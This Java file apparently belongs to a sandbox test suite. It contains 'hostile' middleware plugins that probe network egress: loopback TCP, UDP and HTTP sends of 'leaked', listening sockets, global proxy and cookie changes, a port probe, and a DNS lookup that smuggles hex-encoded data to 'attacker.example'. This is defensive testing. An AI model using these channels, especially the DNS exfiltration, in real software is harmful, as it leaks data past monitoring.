package hostile;

import java.io.InputStream;
import java.net.Authenticator;
import java.net.CookieHandler;
import java.net.CookieManager;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.net.ProxySelector;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.URL;
import java.net.UnknownHostException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.AsynchronousSocketChannel;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import org.osgi.service.component.annotations.Component;
import org.sallyport.type.middleware.MiddlewarePlugin;

/** Rows NET. Arguments: {@code port}, where somebody listens on the loopback by TCP and UDP; HTTP is answered with {@code reached}. */
public final class NetworkAttacks {
    private NetworkAttacks() {}

    private static InetSocketAddress address(Steps steps) {
        return new InetSocketAddress("127.0.0.1", steps.number("port"));
    }

    private static URI uri(Steps steps) {
        return URI.create("http://127.0.0.1:" + steps.number("port") + "/");
    }

    /** Socket. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net01 extends Attack {
        @Override
        protected void attack(Steps steps) {
            steps.step("Socket", () -> {
                try (Socket socket = new Socket("127.0.0.1", steps.number("port"))) {
                    socket.getOutputStream().write("leaked".getBytes(StandardCharsets.UTF_8));
                    return socket;
                }
            });
            steps.step("connect", () -> {
                try (Socket socket = new Socket()) {
                    socket.connect(address(steps), 5_000);
                    return socket;
                }
            });
        }
    }

    /** Channels. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net02 extends Attack {
        @Override
        protected void attack(Steps steps) {
            steps.step("SocketChannel", () -> {
                try (SocketChannel channel = SocketChannel.open(address(steps))) {
                    return channel.write(ByteBuffer.wrap(new byte[] {1}));
                }
            });
            steps.step("AsynchronousSocketChannel", () -> {
                try (AsynchronousSocketChannel channel = AsynchronousSocketChannel.open()) {
                    channel.connect(address(steps)).get();
                    return channel.write(ByteBuffer.wrap(new byte[] {1})).get();
                }
            });
        }
    }

    /** HTTP. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net03 extends Attack {
        @Override
        protected void attack(Steps steps) {
            steps.step(
                    "sendAsync",
                    () -> HttpClient.newHttpClient()
                            .sendAsync(HttpRequest.newBuilder(uri(steps)).build(), HttpResponse.BodyHandlers.ofString())
                            .get()
                            .body());
            steps.step("URLConnection", () -> {
                try (InputStream in = new URL(uri(steps).toString()).openStream()) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            });
        }
    }

    /** Names as a channel. That there is no such name is known only after somebody was asked. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net05 extends Attack {
        @Override
        protected void attack(Steps steps) {
            steps.step("getByName", () -> {
                try {
                    return InetAddress.getByName("6c65616b6564.attacker.example");
                } catch (UnknownHostException e) {
                    return "asked, and got: " + e.getMessage();
                }
            });
        }
    }

    /** Datagrams. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net06 extends Attack {
        @Override
        protected void attack(Steps steps) {
            byte[] bytes = "leaked".getBytes(StandardCharsets.UTF_8);
            steps.step("DatagramSocket", () -> {
                try (DatagramSocket socket = new DatagramSocket()) {
                    socket.send(new DatagramPacket(bytes, bytes.length, address(steps)));
                    return "sent";
                }
            });
            steps.step("DatagramChannel", () -> {
                try (DatagramChannel channel = DatagramChannel.open()) {
                    return channel.send(ByteBuffer.wrap(bytes), address(steps));
                }
            });
            steps.step("multicast", () -> {
                try (MulticastSocket socket = new MulticastSocket()) {
                    NetworkInterface any = NetworkInterface.getByInetAddress(InetAddress.getLoopbackAddress());
                    socket.joinGroup(new InetSocketAddress("239.1.2.3", 0), any);
                    return "joined";
                }
            });
        }
    }

    /** Listening. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net07 extends Attack {
        @Override
        protected void attack(Steps steps) {
            steps.step("ServerSocket", () -> {
                try (ServerSocket socket = new ServerSocket(0)) {
                    return socket;
                }
            });
            steps.step("HttpServer", () -> {
                Class<?> type = ClassLoader.getSystemClassLoader().loadClass("com.sun.net.httpserver.HttpServer");
                Object server = type.getMethod("create", InetSocketAddress.class, int.class)
                        .invoke(null, new InetSocketAddress("127.0.0.1", 0), 1);
                type.getMethod("stop", int.class).invoke(server, 0);
                return server;
            });
        }
    }

    /** Settings for all. What it changes it changes back. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net11 extends Attack {
        @Override
        protected void attack(Steps steps) {
            steps.step("ProxySelector", () -> {
                ProxySelector before = ProxySelector.getDefault();
                ProxySelector mine = ProxySelector.of(address(steps));
                ProxySelector.setDefault(mine);
                boolean set = ProxySelector.getDefault() == mine;
                ProxySelector.setDefault(before);
                return set;
            });
            steps.step("Authenticator", () -> {
                Authenticator.setDefault(new Authenticator() {});
                Authenticator.setDefault(null);
                return "set";
            });
            steps.step("CookieHandler", () -> {
                CookieHandler.setDefault(new CookieManager());
                CookieHandler.setDefault(null);
                return "set";
            });
            steps.step("http.proxyHost", () -> {
                System.setProperty("http.proxyHost", "127.0.0.1");
                return System.clearProperty("http.proxyHost");
            });
        }
    }

    /** What there is. */
    @Component(service = MiddlewarePlugin.class)
    public static final class Net12 extends Attack {
        @Override
        protected void attack(Steps steps) {
            steps.step("getNetworkInterfaces", () -> Collections.list(NetworkInterface.getNetworkInterfaces()));
            steps.step("isReachable", () -> InetAddress.getLoopbackAddress().isReachable(1_000));
            steps.step("port scan", () -> {
                try (Socket socket = new Socket()) {
                    socket.connect(address(steps), 1_000);
                    return "open: " + socket.getPort();
                }
            });
        }
    }
}
